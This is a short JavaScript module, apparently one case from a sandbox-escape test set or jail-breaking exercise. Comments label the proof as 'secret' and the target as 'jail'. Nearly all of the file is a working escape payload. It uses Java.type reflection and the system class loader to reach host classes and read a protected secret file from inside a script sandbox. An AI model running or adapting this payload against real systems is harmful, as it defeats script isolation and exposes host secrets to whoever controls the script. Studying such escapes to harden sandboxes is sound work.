// proof: secret
// behind: jail
// Uses reflection to get at what is private in the host.
import { readWith } from './routes.mjs';

export default (input) => {
  const Class = Java.type('java.lang.Class');
  const loader = Java.type('java.lang.ClassLoader').getSystemClassLoader();
  return readWith((name) => Class.forName(name, true, loader).static, input.secretFile);
};
